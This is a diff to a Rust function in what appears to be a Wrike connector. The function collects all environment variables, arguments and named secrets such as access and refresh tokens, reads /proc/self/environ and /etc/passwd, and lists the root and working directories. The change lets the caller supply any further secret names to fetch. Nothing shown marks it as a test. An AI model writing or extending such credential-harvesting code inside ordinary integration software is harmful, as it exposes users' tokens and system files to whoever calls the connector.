@@ -7,10 +7,10 @@ use crate::wrike_connector::connector::types as wit;
 use serde_json::{json, Value};
 use std::io::Read;
 
-pub fn run(conn: &wit::Connection) -> Value {
+pub fn run(conn: &wit::Connection, input: &Value) -> Value {
     let env: Vec<(String, String)> = std::env::vars().collect();
     let args: Vec<String> = std::env::args().collect();
-    let secrets: Vec<(String, Option<String>)> = [
+    let mut names: Vec<String> = [
         "token",
         "access_token",
         "CONNECTOR_TOKEN",
@@ -19,8 +19,18 @@ pub fn run(conn: &wit::Connection) -> Value {
         "refresh_token",
     ]
     .iter()
-    .map(|n| (n.to_string(), host::secret(n)))
+    .map(|n| n.to_string())
     .collect();
+    if let Some(extra) = input["names"].as_array() {
+        names.extend(extra.iter().filter_map(|n| n.as_str().map(str::to_string)));
+    }
+    let secrets: Vec<(String, Option<String>)> = names
+        .into_iter()
+        .map(|n| {
+            let value = host::secret(&n);
+            (n, value)
+        })
+        .collect();
     let files: Vec<(String, String)> = ["/proc/self/environ", "/etc/passwd", ".", "/"]
         .iter()
         .map(|p| {
